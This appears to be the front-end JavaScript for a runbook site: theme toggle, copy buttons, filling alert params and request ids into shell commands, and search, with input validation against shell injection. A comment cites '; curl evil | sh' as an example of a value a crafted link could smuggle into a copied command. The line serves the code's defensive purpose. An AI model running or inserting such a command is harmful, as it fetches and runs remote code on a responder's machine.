// opsbook site script: theme toggle, copy buttons, target, params and request id in commands,
// search. It never writes data as HTML (textContent only), so nothing from a runbook or the URL
// can run as script.
(function () {
  "use strict";
  var doc = document;
  var root = doc.body.getAttribute("data-root") || "";
  var query = new URLSearchParams(location.search);

  function store(key, value) {
    try {
      if (value === undefined) return localStorage.getItem(key);
      localStorage.setItem(key, value);
    } catch (e) {}
    return null;
  }

  // Theme: the saved choice was applied by theme.js before paint; this only flips it.
  var toggle = doc.getElementById("theme-toggle");
  if (toggle) {
    toggle.addEventListener("click", function () {
      var html = doc.documentElement;
      var current = html.getAttribute("data-theme") ||
        (matchMedia("(prefers-color-scheme: dark)").matches ? "dark" : "light");
      var next = current === "dark" ? "light" : "dark";
      html.setAttribute("data-theme", next);
      store("opsbook-theme", next);
    });
  }

  // "Copied" and the like, said once to a screen reader (a polite live region in base.html).
  var live = doc.getElementById("live");
  function announce(text) {
    if (!live) return;
    live.textContent = "";
    setTimeout(function () { live.textContent = text; }, 50);
  }

  // Copy buttons on every code block, each named after what it copies (a check's title or id,
  // else the command's first words), so fourteen of them are not fourteen "Copy".
  function copyText(text, button, name) {
    function done() {
      button.textContent = "Copied";
      announce("Copied: " + name);
      setTimeout(function () { button.textContent = "Copy"; }, 1500);
    }
    function fallback() {
      var area = doc.createElement("textarea");
      area.value = text;
      doc.body.appendChild(area);
      area.select();
      try { doc.execCommand("copy"); done(); } catch (e) {}
      doc.body.removeChild(area);
    }
    if (navigator.clipboard && navigator.clipboard.writeText) {
      navigator.clipboard.writeText(text).then(done, fallback);
    } else {
      fallback();
    }
  }
  function copyName(box, code) {
    var named = box.getAttribute("data-copy-name");
    if (named) return named;
    var words = (code.textContent || "").replace(/\s+/g, " ").trim();
    return words.length > 48 ? words.slice(0, 47) + "…" : words;
  }
  function addCopy(box, code, className) {
    var button = doc.createElement("button");
    var name = copyName(box, code);
    button.type = "button";
    button.className = className;
    button.textContent = "Copy";
    button.setAttribute("aria-label", "Copy: " + name);
    button.addEventListener("click", function () { copyText(code.textContent, button, name); });
    box.appendChild(button);
  }
  // Idempotent, so it can run again on content a script adds later (the incident form's
  // checks arrive with their runbook's data, before or after this script runs).
  function decorate() {
    Array.prototype.forEach.call(doc.querySelectorAll("main pre:not(.no-copy):not(.has-copy)"), function (pre) {
      pre.classList.add("has-copy");
      addCopy(pre, pre.querySelector("code") || pre, "copy");
    });
    // A paragraph that is nothing but inline code is a command too (`kubectl set env ...`).
    Array.prototype.forEach.call(doc.querySelectorAll("main .md p:not(.has-copy)"), function (p) {
      var only = p.childNodes.length === 1 && p.firstChild.nodeName === "CODE";
      if (!only) return;
      p.classList.add("has-copy");
      addCopy(p, p.firstChild, "copy copy-inline");
    });
  }
  decorate();
  doc.addEventListener("opsbook:content", decorate);

  // Sticky bars: in-page links and focus land below them. The bar's height changes with the
  // viewport (it wraps on narrow screens), so it is measured, not assumed. The bar is the
  // page's (`page` below finds it again when `opsbook serve` swaps the page's content).
  var sticky = null;
  function stickyHeight() {
    return sticky ? sticky.getBoundingClientRect().height : 0;
  }
  function measure() {
    if (!sticky) return doc.documentElement.style.removeProperty("--sticky");
    doc.documentElement.style.setProperty("--sticky", Math.ceil(stickyHeight()) + "px");
  }
  window.addEventListener("resize", measure);
  // Focus moved by Tab or Shift+Tab is scrolled into view by the browser, which may leave it
  // under the bar: move it out.
  doc.addEventListener("focusin", function (ev) {
    var target = ev.target;
    if (!sticky || !target || !target.getBoundingClientRect || sticky.contains(target)) return;
    var bar = sticky.getBoundingClientRect();
    var box = target.getBoundingClientRect();
    if (bar.top <= 1 && box.top < bar.bottom) window.scrollBy(0, box.top - bar.bottom - 8);
  });

  // Narrow screens: the header's links and the target bar's details fold behind a button, so
  // the bars take one line each until asked for more.
  // The button shows only where CSS folds (a narrow screen); `host` gets `open` when expanded.
  function foldable(button, host) {
    if (!button || !host) return;
    button.hidden = false;
    button.addEventListener("click", function () {
      var open = button.getAttribute("aria-expanded") !== "true";
      button.setAttribute("aria-expanded", open ? "true" : "false");
      host.classList.toggle("open", open);
      measure();
    });
  }
  foldable(doc.getElementById("menu-toggle"), doc.querySelector(".top"));

  var SAFE_VALUE = /^[A-Za-z0-9._:\/@+=,%-]*$/;
  // One request id format for the page and the command line (src/check/request_id.rs):
  // `ob-20261126T081500Z-7f3a9c-0001`: UTC time, a random part per page, a counter.
  var ridRandom = (function () {
    var bytes = [Math.random() * 256, Math.random() * 256, Math.random() * 256];
    if (window.crypto && crypto.getRandomValues) bytes = crypto.getRandomValues(new Uint8Array(3));
    return Array.prototype.map.call(bytes, function (b) { return ((b & 255) + 256).toString(16).slice(1); }).join("");
  })();
  var ridCount = 0;
  var usedIds = [];

  // What the page's own content needs: the target bar, the params, the commands filled in.
  // Run once here, and again by `opsbook serve`'s reload script after it swaps in an edit.
  function page() {
    sticky = doc.querySelector(".targetbar");
    measure();
    if (sticky && window.ResizeObserver) new ResizeObserver(measure).observe(sticky);
    foldable(doc.getElementById("targetbar-toggle"), sticky);

    // Params (an alert's labels): the page's URL (?namespace=shop) wins over the runbook's
    // default. An empty value (`deployment=` from an alert that has no such label) keeps the
    // default.
    var paramInputs = Array.prototype.slice.call(doc.querySelectorAll("input[data-param]"));
    paramInputs.forEach(function (input) {
      var name = input.getAttribute("data-param");
      if (query.get(name)) input.value = query.get(name);
    });

    // Targets, params and request id: each command keeps its raw form in data-template, and
    // only the names given here are replaced (plain text; nothing is evaluated).
    var targets = [];
    var data = doc.getElementById("targets");
    if (data) {
      try { targets = JSON.parse(data.textContent) || []; } catch (e) { targets = []; }
    }
    var select = doc.getElementById("target");
    var ridBox = doc.getElementById("rid");
    var requestId = "";
    function newRequestId() {
      ridCount += 1;
      var time = new Date().toISOString().replace(/[-:]/g, "").replace(/\.\d{3}Z$/, "Z");
      requestId = "ob-" + time + "-" + ridRandom + "-" + ("000" + ridCount).slice(-4);
      usedIds.unshift(requestId);
      usedIds = usedIds.slice(0, 10);
      if (ridBox) ridBox.textContent = requestId;
    }
    function fill() {
      var chosen = targets[0];
      for (var i = 0; select && i < targets.length; i++) {
        if (targets[i].name === select.value) chosen = targets[i];
      }
      var vars = Object.create(null);
      var own = (chosen && chosen.vars) || {};
      Object.keys(own).forEach(function (name) { vars[name] = own[name]; });
      // An empty input leaves its {{ name }} visible, so a missing label is noticed. A value
      // goes into commands a responder pastes into a shell, and a link can carry any value: one
      // with a character that could end a quoted word or start another command (`;`, `|`, `$`,
      // quotes, spaces, brackets) is not filled in, and its input is marked, so a crafted link
      // cannot slip `; curl evil | sh` into a copied command.
      paramInputs.forEach(function (input) {
        var safe = SAFE_VALUE.test(input.value);
        input.setAttribute("aria-invalid", safe ? "false" : "true");
        input.title = safe ? "" : "not filled in: use letters, digits and . _ : / @ + = , % - only";
        if (input.value !== "" && safe) vars[input.getAttribute("data-param")] = input.value;
      });
      function filled(template) {
        return template.replace(/\{\{\s*([A-Za-z0-9_.-]*)\s*\}\}/g, function (all, name) {
          if (name === "request_id") return requestId;
          return Object.prototype.hasOwnProperty.call(vars, name) ? vars[name] : all;
        });
      }
      Array.prototype.forEach.call(doc.querySelectorAll("[data-template]"), function (el) {
        el.textContent = filled(el.getAttribute("data-template"));
      });
      // "Start an incident record" carries the page's context: the target, the params and the
      // request ids made here (the current one first), for the form to fill into the record.
      Array.prototype.forEach.call(doc.querySelectorAll("a[data-incident]"), function (a) {
        var base = a.getAttribute("data-href") || a.getAttribute("href");
        a.setAttribute("data-href", base);
        var parts = base.split("?");
        var params = new URLSearchParams(parts[1] || "");
        if (select && select.value) params.set("target", select.value);
        paramInputs.forEach(function (input) {
          if (input.value !== "" && SAFE_VALUE.test(input.value)) params.set(input.getAttribute("data-param"), input.value);
        });
        usedIds.forEach(function (id) { params.append("request_id", id); });
        a.href = parts[0] + "?" + params.toString();
      });
      // "Open in Prometheus": the filled query, encoded, under the filled base URL (only an
      // http(s) one without query or fragment, so a link never becomes script or a wrong page;
      // otherwise no link at all, not the previous target's).
      Array.prototype.forEach.call(doc.querySelectorAll("[data-prom-expr]"), function (a) {
        var base = filled(a.getAttribute("data-prom-base")).replace(/\/+$/, "");
        if (!/^https?:\/\/[^?#]*$/i.test(base)) { a.removeAttribute("href"); return; }
        a.href = base + "/graph?g0.expr=" + encodeURIComponent(filled(a.getAttribute("data-prom-expr"))) + "&g0.tab=0";
      });
    }
    if (doc.querySelector("[data-template]")) {
      var wanted = query.get("target") || store("opsbook-target");
      if (select && wanted) {
        for (var t = 0; t < select.options.length; t++) {
          if (select.options[t].value === wanted) select.value = wanted;
        }
      }
      newRequestId();
      fill();
      if (select) {
        select.addEventListener("change", function () { store("opsbook-target", select.value); fill(); });
      }
      var again = doc.getElementById("new-rid");
      if (again) again.addEventListener("click", function () { newRequestId(); fill(); });
      paramInputs.forEach(function (input) { input.addEventListener("input", fill); });
    }

    // The incident placeholder: name the failure mode the reader came from.
    var incident = doc.getElementById("incident-cmd");
    if (incident && /^[a-z0-9\/-]+$/.test(query.get("runbook") || "") &&
        /^[a-z0-9-]+$/.test(query.get("failure_mode") || "")) {
      incident.textContent = "opsbook incident new " + query.get("runbook") + "#" +
        query.get("failure_mode") + " --title \"…\"";
    }
  }
  page();
  window.__opsbookPage = function () {
    decorate();
    page();
  };

  // Search: the index is a script loaded on first use, so pages stay small and file:// works.
  var input = doc.getElementById("q");
  var list = doc.getElementById("results");
  if (!input || !list) return;
  var entries = null;
  var active = -1;
  function load(then) {
    if (entries) return then();
    if (window.OPSBOOK_INDEX) return prepare(then);
    var s = doc.createElement("script");
    s.src = input.getAttribute("data-index");
    s.onload = function () { prepare(then); };
    doc.head.appendChild(s);
  }
  // Entries: {t: title shown, sub, u: link, title: lowercased title, hay: its words, rb: its
  // runbook's words (a weaker match), key: an alert's lowercased name}.
  function prepare(then) {
    entries = [];
    var titles = Object.create(null);
    (window.OPSBOOK_INDEX || []).forEach(function (rb) {
      var rbHay = (rb[1] + " " + rb[2] + " " + rb[3] + " " + rb[0]).toLowerCase() + " " + rb[4];
      entries.push({ t: rb[1], sub: rb[2], u: root + rb[0] + "/index.html", title: rb[1].toLowerCase(), hay: rbHay, rb: "" });
      rb[6].forEach(function (fm) {
        titles[rb[0] + "/" + fm[0]] = fm[1] + " · " + rb[1];
        entries.push({
          t: fm[1], sub: fm[2] + " · " + rb[1], u: root + rb[0] + "/" + fm[0] + ".html",
          title: fm[1].toLowerCase(), hay: fm[3] + " " + rb[5], rb: rbHay
        });
      });
    });
    (window.OPSBOOK_ALERTS || []).forEach(function (a) {
      var leads = a[2].length === 1 ? titles[a[2][0]] : a[2].length + " failure modes";
      entries.push({
        t: a[0], sub: "alert → " + leads, u: root + "alerts/" + a[0] + ".html",
        title: a[0].toLowerCase() + " " + a[1], hay: "", rb: "", key: a[0].toLowerCase()
      });
    });
    then();
  }
  // Query words are split like the index's words (letters, digits, _ - .), so `x-request-id:`
  // and `request id` both match. 0: an alert's exact name; 1: a title hit; 2: every word in the
  // entry's own text; 3: some only in its runbook's text; -1: no match.
  function words(q) {
    return q.split(/[^\p{L}\p{N}_.\-]+/u).map(function (w) {
      return w.replace(/^[._-]+|[._-]+$/g, "");
    }).filter(Boolean);
  }
  function rank(e, q, ws, joined) {
    if (e.key !== undefined && (e.key === q || e.key === joined)) return 0;
    function own(w) { return e.title.indexOf(w) >= 0 || e.hay.indexOf(w) >= 0; }
    function any(w) { return own(w) || e.rb.indexOf(w) >= 0; }
    if (ws.every(any)) return e.title.indexOf(q) >= 0 ? 1 : ws.every(own) ? 2 : 3;
    // `crash looping` typed for KubePodCrashLooping: the words joined, as the index joins them.
    if (ws.length > 1 && any(joined)) return own(joined) ? 2 : 3;
    return -1;
  }
  function search() {
    var started = Date.now();
    var q = input.value.toLowerCase().trim();
    var ws = words(q);
    var joined = ws.join("");
    var buckets = [[], [], [], []];
    for (var i = 0; ws.length && i < entries.length; i++) {
      var r = rank(entries[i], q, ws, joined);
      if (r >= 0) buckets[r].push(entries[i]);
    }
    show([].concat(buckets[0], buckets[1], buckets[2], buckets[3]).slice(0, 20));
    // How long the search took, for the browser test and anyone curious.
    list.setAttribute("data-ms", String(Date.now() - started));
  }
  // The ARIA combobox pattern: options are plain text (a link inside an option is a control
  // inside a control), the input says which one is active, and "no match" is said outside the
  // listbox, which only ever holds options.
  var none = doc.getElementById("no-results");
  function show(results) {
    while (list.firstChild) list.removeChild(list.firstChild);
    active = -1;
    input.removeAttribute("aria-activedescendant");
    results.forEach(function (e, i) {
      var li = doc.createElement("li");
      li.id = "result-" + i;
      li.setAttribute("role", "option");
      li.setAttribute("aria-selected", "false");
      li.setAttribute("data-href", e.u);
      var title = doc.createElement("span");
      title.className = "t";
      title.textContent = e.t;
      var sub = doc.createElement("span");
      sub.className = "in";
      sub.textContent = e.sub;
      li.appendChild(title);
      li.appendChild(sub);
      list.appendChild(li);
    });
    var nothing = !!input.value.trim() && !results.length;
    if (none) none.hidden = !nothing;
    if (none) none.textContent = nothing ? "No runbook matches." : "";
    list.hidden = !list.firstChild;
    input.setAttribute("aria-expanded", list.hidden ? "false" : "true");
  }
  function go(li, newTab) {
    var href = li && li.getAttribute("data-href");
    if (!href) return;
    if (newTab) window.open(href, "_blank", "noopener"); else location.href = href;
  }
  list.addEventListener("click", function (ev) {
    var li = ev.target.closest ? ev.target.closest("li[role=option]") : null;
    go(li, ev.ctrlKey || ev.metaKey);
  });
  list.addEventListener("auxclick", function (ev) {
    var li = ev.target.closest ? ev.target.closest("li[role=option]") : null;
    if (ev.button === 1) go(li, true);
  });
  function move(step) {
    var items = list.querySelectorAll("li[role=option]");
    if (!items.length) return;
    if (active >= 0) items[active].setAttribute("aria-selected", "false");
    active = (active + step + items.length) % items.length;
    items[active].setAttribute("aria-selected", "true");
    items[active].scrollIntoView({ block: "nearest" });
    input.setAttribute("aria-activedescendant", items[active].id);
  }
  input.addEventListener("focus", function () { load(function () {}); });
  input.addEventListener("input", function () { load(search); });
  input.addEventListener("keydown", function (ev) {
    if (ev.key === "ArrowDown") { ev.preventDefault(); move(1); }
    else if (ev.key === "ArrowUp") { ev.preventDefault(); move(-1); }
    else if (ev.key === "Enter") {
      var items = list.querySelectorAll("li[role=option]");
      var pick = items[active >= 0 ? active : 0];
      if (pick) { ev.preventDefault(); go(pick, ev.ctrlKey || ev.metaKey); }
    } else if (ev.key === "Escape") { input.value = ""; show([]); }
  });
  doc.addEventListener("click", function (ev) {
    if (!list.hidden && !input.parentNode.contains(ev.target)) {
      list.hidden = true;
      input.setAttribute("aria-expanded", "false");
    }
  });
  input.addEventListener("focus", function () {
    if (list.firstChild) { list.hidden = false; input.setAttribute("aria-expanded", "true"); }
  });
  doc.addEventListener("keydown", function (ev) {
    var tag = (doc.activeElement && doc.activeElement.tagName) || "";
    if (ev.key === "/" && !/^(INPUT|TEXTAREA|SELECT)$/.test(tag) && !ev.ctrlKey && !ev.metaKey) {
      ev.preventDefault();
      input.focus();
    }
  });
  var initial = query.get("q");
  if (initial) {
    input.value = initial;
    load(search);
  }
})();
